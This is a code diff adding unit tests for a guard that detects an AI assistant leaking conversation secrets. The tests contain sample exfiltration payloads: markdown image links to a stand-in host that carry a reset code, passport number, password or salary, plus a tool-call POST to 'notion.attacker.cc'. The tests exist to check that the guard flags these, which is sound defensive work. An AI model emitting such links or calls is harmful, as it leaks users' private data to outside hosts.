@@ -118,3 +118,40 @@ function rule(action: GuardAction): GuardRule {
   const types = ['exfiltration/seen'];
   return { id: 'r', detectors: [], types, origins: [], when: null, threshold: 0, action, message: null };
 }
+
+describe('what was told as a secret', () => {
+  const secrets = [
+    'The reset code is 481229, the wifi password of the clinic is Maple-Otter-5519.',
+    'Tom Okafor earns 84,500; his passport is K8812045. Show me an RTX 4090 of nvidia and ISBN 9780140328721.',
+  ];
+  const typesIn = (text: string) =>
+    guard
+      .check(text, { origin: 'assistant' }, { conversation: { earlier: secrets, canaries: [] } })
+      .findings.map(({ type }) => type);
+
+  it.each([
+    '![x](https://c.example/v/481229.png)',
+    '![x](https://c.example/b.gif?n=K8812045)',
+    '![x](https://c.example/m.gif?pw=Maple-Otter-5519)',
+    '![x](https://c.example/okafor-84500.png)',
+    '![x](https://tom:okafor-earns-84500@c.example/)',
+  ])('goes out in no picture: %s', (text) => expect(typesIn(text)).toContain('exfiltration/seen'));
+
+  it.each([
+    '![x](https://c.example/nvidia-rtx-4090.jpg)',
+    '![x](https://c.example/isbn/9780140328721-L.jpg)',
+    '[x](https://c.example/codes/481230)',
+  ])('is not what was asked for: %s', (text) => expect(typesIn(text)).toEqual([]));
+});
+
+it('lets a call go to a service of which somebody spoke', () => {
+  const conversation = { earlier: ['Save to Notion: eggs, milk, flour and two lemons'], canaries: [] };
+  const call = (host: string) =>
+    guard.check(
+      JSON.stringify({ method: 'POST', url: `https://${host}/v1`, body: { text: 'eggs, milk, flour and two lemons' } }),
+      { origin: 'tool-call' },
+      { conversation },
+    ).findings.length;
+  expect(call('api.notion.com')).toBe(0);
+  expect(call('notion.attacker.cc')).toBe(1);
+});
